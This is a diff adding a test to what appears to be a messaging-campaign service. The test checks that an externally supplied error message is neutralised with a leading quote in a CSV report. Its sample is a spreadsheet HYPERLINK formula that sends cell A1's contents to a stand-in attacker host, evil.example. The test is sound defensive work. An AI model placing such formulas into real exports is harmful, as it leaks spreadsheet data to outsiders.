@@ -321,3 +321,16 @@ async def test_preview_shows_the_shortened_text(scenario: Scenario) -> None:
     assert preview["text"].endswith(" now")
     assert "shop.example" not in preview["text"]
     assert preview["characters"] == len("See ") + len(LINK_BASE) + len("/l/") + 8 + len(" now")
+
+
+async def test_csv_cells_from_outside_cannot_be_formulas(scenario: Scenario) -> None:
+    s = scenario
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"details")'
+    message = s.by_profile["p5"]
+    assert await s.services.messages.record_delivery(
+        message["id"], MessageStatus.UNDELIVERED, error=formula
+    )
+    response = await s.http.get(f"/api/v1/campaigns/{s.campaign_id}/report.csv")
+    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(response.text))}
+    assert rows[message["id"]]["last_error"] == "'" + formula
+    assert rows[message["id"]]["to"] == message["to"]  # an E.164 number is left as it is
